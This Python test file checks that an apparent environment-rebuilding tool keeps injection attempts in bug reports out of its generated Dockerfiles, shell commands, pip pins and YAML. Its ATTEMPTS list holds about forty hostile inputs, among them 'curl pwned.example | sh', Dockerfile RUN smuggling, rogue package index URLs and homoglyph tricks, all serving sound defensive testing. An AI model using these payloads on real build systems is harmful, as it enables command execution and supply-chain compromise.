"""Reports that try to be more than text: none reaches a shell, a Dockerfile, a requirement or a simulated host."""

# ruff: noqa: E501, Q003 - an attempt a line, as it would be typed.

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
import yaml

from envbuilder.catalog.store import load
from envbuilder.choice import read_matrix
from envbuilder.matrix import Matrix
from envbuilder.reproduce.analysis import analyse
from envbuilder.reproduce.rebuild import on_image, on_top, requirement, word
from envbuilder.reproduce.report.read import read
from envbuilder.simulated import profile

BASE = "tensorflow 2.15.1\npython 3.11\nnumpy==2.0.0\ndriver 535.104.05\nRTX 3090\n"
MARK = "pwned"

ATTEMPTS = (
    f"tensorflow==2.15.1; touch /tmp/{MARK}",
    f"tensorflow==2.15.1 && curl {MARK}.example | sh",
    f"tensorflow==2.15.1$(touch {MARK})",
    f"tensorflow==2.15.1`touch {MARK}`",
    f"tensorflow==2.15.1\\\nRUN touch {MARK}",
    f"numpy==2.0.0\nRUN touch /{MARK}",
    f"numpy==2.0.0 --index-url http://{MARK}.example/simple",
    f"numpy==2.0.0 --extra-index-url=http://{MARK}.example",
    f"numpy @ http://{MARK}.example/numpy-2.0.0.whl",
    f"numpy==2.0.0 ; os.system('{MARK}')",
    f"-r /etc/{MARK}\nnumpy==2.0.0",
    f"-e git+https://{MARK}.example/x#egg=numpy\nnumpy==2.0.0",
    f"numpy=='2.0.0' '{MARK}'",
    f'numpy=="2.0.0" "{MARK}"',
    f"numpy==../../{MARK}",
    f"../../{MARK}==2.0.0",
    f"numpy==2.0.0\x00{MARK}",
    f"numpy==2.0.0\r\nRUN {MARK}",
    f"numpy==2.0.0\u2028RUN {MARK}",
    f"n\u0443mpy==2.0.0 {MARK}",
    f"numpy==\uff12.\uff10.\uff10 {MARK}",
    f"tensorflow==\u0662.\u0661\u0665 {MARK}",
    f"keras==3.0.0|{MARK}",
    f"protobuf==4.25.0>{MARK}",
    f"h5py==3.1.0 # {MARK}\nENV X={MARK}",
    f"### GPU model and memory\n\nRTX 3090\"; RUN {MARK}",
    f"### GPU model and memory\n\nRTX 3090,fail=no-device,{MARK}=1",
    f"### OS platform and distribution\n\nUbuntu 22.04$({MARK})",
    f"### Python version\n\n3.11'; {MARK}; '",
    f"### CUDA/cuDNN version\n\n12.2`{MARK}`/8.9${{{MARK}}}",
    f"NVIDIA driver: 535.104.05,gpu={MARK}",
    f"FROM tensorflow/tensorflow:2.15.0-gpu AS x\nRUN {MARK}",
    f"FROM nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04;{MARK}",
    f"docker run tensorflow/tensorflow:2.15.0-gpu;{MARK}",
    f"tensorflow/tensorflow:2.15.0-gpu\" {MARK}",
    f"export LD_LIBRARY_PATH=/x:$({MARK})",
    f"ENV XLA_FLAGS=--a\\\n{MARK}",
    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1; MARK", "packages": {"numpy": "2.0.0 MARK"}}'.replace("MARK", MARK),
    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1", "packages": {"numpy==1 MARK": "2.0.0"}}'.replace("MARK", MARK),
    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1", "image": "x/y:z\\nRUN MARK", "gpus": ["MARK\\n"]}'.replace("MARK", MARK),
    "\x1b]0;pwned\x07tensorflow==2.15.1",
    f"&lt;RUN&gt; &#10;RUN {MARK}\nnumpy==2.0.0",
)  # fmt: skip

_LINE = re.compile(
    r"(?:#.*|ARG BASE|FROM (?:\$\{BASE\}|[a-z0-9/:.-]+)|USER (?:root|envbuilder)|COPY tools\.lock /run/tools\.lock|RUN --mount=\S+ \\"
    r"|    (?:if \[|  export|export|apt-get|python3 -m|/run/tools|rm -rf).*|      export.*)\Z"
)
_TOKENS = re.compile(r"[A-Za-z0-9][A-Za-z0-9._:/@+\[\]=<>,!~*-]*|--rm|--gpus|-it|all")


def test_injection_corpus_has_over_thirty_attempts() -> None:
    assert len(set(ATTEMPTS)) >= 30


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=range(len(ATTEMPTS)))
@pytest.mark.parametrize("before", ["", BASE], ids=["alone", "in a report"])
def test_injection_reaches_no_output(attempt: str, before: str, tmp_path: Path) -> None:
    document = analyse(before + attempt, load()).document
    recipe, near = document.recipe, document.nearest
    assert MARK not in recipe.dockerfile + recipe.host + " ".join(recipe.deviations) + (recipe.base or "")
    for line in recipe.dockerfile.splitlines():
        assert _LINE.match(line), line
    for pin in recipe.deviations:
        assert re.fullmatch(r"[a-z0-9.-]+==[0-9][A-Za-z0-9.+]*", pin, re.ASCII), pin
    if recipe.host:
        assert profile.parse(recipe.host, load()).fail == ()
    if near is None:
        return
    for command in near.commands:
        assert MARK not in command
        assert all(_TOKENS.fullmatch(token) for token in shlex.split(command)), command
    if near.matrix:
        path = tmp_path / "nearest.yaml"
        path.write_text(near.matrix)
        assert isinstance(read_matrix(path), Matrix)
        assert MARK not in yaml.safe_dump(yaml.safe_load(near.matrix))


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=range(len(ATTEMPTS)))
def test_fields_match_their_grammar(attempt: str) -> None:
    reported = read(attempt)
    values = [reported.tensorflow, reported.python, reported.cuda, reported.cudnn, reported.driver, reported.image]
    for value in (*filter(None, values), *reported.gpus, *reported.packages, *reported.packages.values()):
        assert value.isascii()
        assert not set(value) & set("\n\r\0;|&$`'\"\\<>#"), value
        assert not value.startswith("-")


EVIL = ("a b", "a;b", "a'b", 'a"b', "a\nb", "$(a)", "`a`", "-a", "", "../a b", "a\\", "a|b", "a&b", "a\u00e9", "a\x00")


@pytest.mark.parametrize("text", EVIL)
def test_dockerfile_writer_rejects_unsafe_words(text: str) -> None:
    with pytest.raises(ValueError, match="not"):
        word(text)
    with pytest.raises(ValueError, match="not"):
        requirement(text)
    with pytest.raises(ValueError, match="not"):
        on_top((f"numpy=={text}",))
    with pytest.raises(ValueError, match="not"):
        on_image(text, "tensorflow==2.15.1", (), ())
